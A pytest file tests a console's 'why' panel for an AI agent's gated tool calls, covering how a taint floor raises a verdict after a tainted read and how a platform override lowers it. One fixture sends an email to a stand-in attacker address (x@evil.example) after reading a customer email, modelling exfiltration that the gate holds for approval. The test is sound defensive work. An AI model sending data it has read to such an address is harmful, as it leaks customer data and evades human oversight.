"""The why panel of a call in a tainted run: it says when the taint floor raised the verdict, and when a
platform rule with `override_taint` lowered it. Driven through the real gate and the console page."""

import pytest
from django.urls import reverse

from runs.models import ToolCall
from tests.conftest import login
from tests.runs.conftest import call, post_calls, start_run
from tests.runs.factories import grant, make_skill, published_policy, rule
from traces.models import Span, Trace

pytestmark = pytest.mark.django_db


@pytest.fixture
def tainted_batch(acme, agent_client, django_capture_on_commit_callbacks):
    """Runs [a read marked as tainting, a write, an external call] under a tenant allow rule and a platform
    rule that overrides the taint floor for the write only. Returns a function giving a call's why panel."""
    make_skill("support.peek", adapter="python:test.echo", publish=False)
    make_skill("support.write_note", effect="write", adapter="python:test.echo", publish=False)
    make_skill("support.send_email", effect="external", adapter="python:test.echo", publish=False)
    grant(acme, "support.*")
    published_policy(
        [rule("support-may-write", "allow", 'skill.namespace == "support"')],
        scope="tenant",
        tenant=acme,
        name="routine allows",
    )
    platform = published_policy(
        [rule("trusted-notes", "allow", 'skill.name == "support.write_note"') | {"override_taint": True}],
        name="trusted notes",
    )
    make_skill("support.publisher", adapter="python:test.echo")  # publishes the snapshot
    run = start_run(agent_client)
    with django_capture_on_commit_callbacks(execute=True):
        response = post_calls(
            agent_client,
            run["run_id"],
            [
                call("c1", "support.peek", taint="read a customer email"),
                call("c2", "support.write_note", {"text": "hi"}),
                call("c3", "support.send_email", {"to": "x@evil.example"}),
            ],
        )
    assert [r["status"] for r in response.json()["results"]] == ["ok", "ok", "approval_required"]
    trace = Trace.objects.get(run_id=run["run_id"])
    assert Span.objects.filter(trace=trace, call__call_id="c2").exists()

    def why(client, call_id: str) -> str:
        tool_call = ToolCall.objects.get(run_id=run["run_id"], call_id=call_id)
        response = client.get(reverse("traces:why", args=[trace.pk, tool_call.pk]))
        assert response.status_code == 200
        return response.content.decode()

    why.platform = platform
    return why


def test_why_panel_shows_the_platform_override_of_the_taint_floor(client, viewer, tainted_batch):
    login(client, viewer)
    page = tainted_batch(client, "c2")
    assert f"taint floor lowered by platform rule p{tainted_batch.platform.pk}/trusted-notes" in page
    assert "taint floor raised" not in page


def test_why_panel_shows_the_taint_floor_raising_an_allow_rule(client, viewer, tainted_batch):
    login(client, viewer)
    page = tainted_batch(client, "c3")
    assert "taint floor raised the verdict to confirm" in page
    assert "support-may-write" in page and "read a customer email" in page
    assert "lowered by platform rule" not in page
